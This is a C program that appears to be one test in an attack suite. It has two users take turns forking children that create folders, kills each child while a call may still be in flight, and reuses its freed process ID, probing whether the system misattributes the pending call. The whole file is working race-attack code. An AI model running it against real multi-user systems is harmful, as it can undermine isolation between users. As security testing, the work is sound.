/*
 * exits SECONDS UID DIRECTORY UID DIRECTORY: two users in turns have a child make folders on behalf, named for its
 * user, and kill it. As soon as the child's id is free, the other user forks. So a call is in flight for a process that
 * is gone, while a child of the other user has its id. It takes longer than SECONDS if those do not suffice for enough
 * folders.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

#define ENOUGH 200
#define LONGER_SECONDS 40

static volatile struct {
    int turn;
    int made[2]; /* by each user */
    pid_t killed; /* the next process must get its id */
} *shared;

static void make_folders(int own, long child)
{
    char name[64];

    for (int i = 0;; i++) {
        snprintf(name, sizeof name, "%u-%ld-%d", getuid(), child, i);
        if (mkdir(name, 0755) == 0)
            shared->made[own]++; /* a user's children come one after the other */
    }
}

/* Does not wait for ever: the last child belongs to the container's first process, which may not care. */
static void await_freedom(pid_t pid, time_t end)
{
    while (pid != 0 && (kill(pid, 0) == 0 || errno != ESRCH))
        if (time(NULL) > end)
            return;
}

static bool is_over(time_t end)
{
    time_t now = time(NULL);

    return now >= end && (now > end + LONGER_SECONDS || (shared->made[0] >= ENOUGH && shared->made[1] >= ENOUGH));
}

static void take_turns(int own, time_t end)
{
    signal(SIGCHLD, SIG_IGN); /* so the id is free when the child ends, without a wait */
    srandom(getuid());
    for (long children = 0; !is_over(end); children++) {
        while (shared->turn != own)
            if (is_over(end))
                return;
        await_freedom(shared->killed, end);
        pid_t child = fork();
        if (child < 0)
            fail("fork");
        if (child == 0)
            make_folders(own, children);
        usleep((useconds_t)(random() % (random() % 4 ? 1000 : 10000)));
        kill(child, SIGKILL);
        shared->killed = child;
        shared->turn = !own;
        saw("killed of %u", getuid());
    }
}

static void begin(int own, const char *uid, const char *directory, time_t end)
{
    if (fork() != 0)
        return;
    if (chdir(directory) < 0 || setgid((gid_t)atoi(uid)) < 0 || setuid((uid_t)atoi(uid)) < 0)
        fail(directory);
    take_turns(own, end);
    report();
    exit(0);
}

int main(int argc, char **argv)
{
    if (argc != 6)
        return 2;
    time_t end = time(NULL) + atoi(argv[1]);
    shared = mmap(NULL, sizeof *shared, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (shared == MAP_FAILED)
        fail("mmap");
    begin(0, argv[2], argv[3], end);
    begin(1, argv[4], argv[5], end);
    while (wait(NULL) > 0)
        ;
    return 0;
}
